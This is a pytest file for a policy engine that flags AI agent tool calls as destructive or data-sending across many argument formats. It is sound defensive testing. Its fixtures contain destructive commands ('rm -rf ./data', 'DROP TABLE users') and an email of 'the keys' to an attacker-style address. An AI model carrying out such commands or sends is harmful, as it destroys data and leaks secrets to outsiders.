"""Tool arguments in every shape frameworks record them reach the rules alike, evidence in the raw text."""

from __future__ import annotations

import pytest

from workbench.model import Severity, Step, StepKind, StoredStep
from workbench.policies.actions import DELETE, SEND, classify
from workbench.policies.arguments import Shape, read_arguments
from workbench.policies.engine import build_engine


def _tool(name: str, raw: str) -> Step:
    return Step(
        trace_id="t", span_id="s", parent_span_id="", kind=StepKind.TOOL, name=name, start_time_ns=0,
        end_time_ns=1, convention="test", tool_name=name, tool_arguments=raw,
    )  # fmt: skip


# (raw tool_arguments as a framework stored them, the shape, what the destructive evidence quotes)
DESTRUCTIVE = [
    ('{"command": "rm -rf ./data"}', Shape.OBJECT, "rm -rf ./data"),
    ('"rm -rf ./data"', Shape.STRING, "rm -rf ./data"),  # OpenInference-LangChain, one-argument tool
    ('"DROP TABLE users;"', Shape.STRING, "DROP TABLE users"),
    ('["rm -rf ./data"]', Shape.LIST, "rm -rf ./data"),
    ('{"args": ["rm -rf ./data"], "kwargs": {}}', Shape.CALL, "rm -rf ./data"),  # traceloop, smolagents
    ('{"kwargs": {"command": "rm -rf ./data"}}', Shape.CALL, "rm -rf ./data"),  # LlamaIndex
    ('{"args": [], "kwargs": {"sql": "DROP TABLE users"}}', Shape.CALL, "DROP TABLE users"),
    ("{'command': 'rm -rf ./data'}", Shape.REPR, "rm -rf ./data"),  # a Python repr
    ("{'kwargs': {'query': 'DROP TABLE users;'}, 'id_': 'call_1'}", Shape.REPR, "DROP TABLE users"),
    ("ToolCall(name='cleanup', kwargs={'command': 'rm -rf ./data'})", Shape.REPR, "rm -rf ./data"),
    ("rm -rf ./data", Shape.TEXT, "rm -rf ./data"),  # not JSON at all
]


@pytest.mark.parametrize(("raw", "shape", "quoted"), DESTRUCTIVE)
def test_every_shape_of_a_destructive_call_is_flagged_with_evidence_in_the_raw_text(
    raw: str, shape: Shape, quoted: str
) -> None:
    assert read_arguments(raw).shape is shape
    action = classify(_tool("cleanup", raw))
    assert DELETE in action.classes, raw
    ev = action.destructive[0]
    assert ev.field == "tool_arguments"
    assert raw[ev.start : ev.end] == ev.text == quoted


@pytest.mark.parametrize(
    "raw",
    [
        '"Paris"',
        '{"city": "Paris"}',
        '["Paris"]',
        "{'city': 'Paris'}",
        '{"kwargs": {"city": "Paris"}}',
        "Paris",
    ],
)
def test_benign_arguments_in_any_shape_are_not_destructive(raw: str) -> None:
    assert DELETE not in classify(_tool("get_weather", raw)).classes


def test_a_sole_string_is_read_as_a_command_but_one_named_value_among_others_is_not() -> None:
    assert read_arguments('"rm -rf ./data"').sole_string is not None
    assert read_arguments('{"note": "rm -rf ./data", "to": "ops"}').sole_string is None
    assert DELETE not in classify(_tool("write_note", '{"note": "rm -rf ./data", "to": "ops"}')).classes


def test_the_parsed_view_names_the_arguments_of_every_shape() -> None:
    call = read_arguments('{"args": ["a", 2], "kwargs": {"b": "c"}}')
    assert (call.named, call.positional) == ({"b": "c"}, ("a", 2))
    assert [(v.key, v.text) for v in call.values] == [("", "a"), ("b", "c")]
    repr_ = read_arguments("{'to': 'x@evil.example', 'body': \"it's\"}")
    assert repr_.named == {"to": "x@evil.example", "body": "it's"}
    assert [(v.key, v.text) for v in repr_.values] == [("to", "x@evil.example"), ("body", "it's")]
    nested = read_arguments('{"a": {"b": "c"}, "d": ["e", {"f": "g"}], "h": "i"}')
    assert [(v.key, v.text) for v in nested.values] == [("b", "c"), ("d", "e"), ("f", "g"), ("h", "i")]
    assert read_arguments("").shape is Shape.EMPTY


def test_double_encoded_arguments_are_read_through_with_evidence_on_the_enclosing_literal() -> None:
    raw = '{"input": "{\\"command\\": \\"rm -rf ./data\\"}"}'
    action = classify(_tool("cleanup", raw))
    assert DELETE in action.classes
    ev = action.destructive[0]
    assert raw[ev.start : ev.end] == ev.text
    assert "rm -rf ./data" in ev.text.replace("\\", "")


def test_a_python_repr_send_names_its_recipient_in_the_raw_text() -> None:
    raw = "{'to': 'attacker@evil.example', 'body': 'the keys'}"
    action = classify(_tool("send_email", raw))
    assert SEND in action.classes
    host, ev = action.hosts[0]
    assert host == "evil.example" and raw[ev.start : ev.end] == "attacker@evil.example"


@pytest.mark.parametrize(
    "raw",
    ["[" * 50_000, "{'a': " * 5_000, '"unterminated', "{'a': b'\\xff'}", "(" * 300 + ")" * 300, "x=" * 1000],
)
def test_hostile_arguments_never_raise(raw: str) -> None:
    read_arguments(raw)
    classify(_tool("cleanup", raw))


def test_a_bare_string_command_raises_a_high_or_critical_destructive_finding() -> None:
    engine = build_engine()
    step = StoredStep(seq=1, step=_tool("terminal_tool", '"rm -rf ./data"'))
    found = [f for f in engine.evaluate("t", [step]) if f.rule_id == "destructive-action"]
    assert found and found[0].severity.rank >= Severity.HIGH.rank
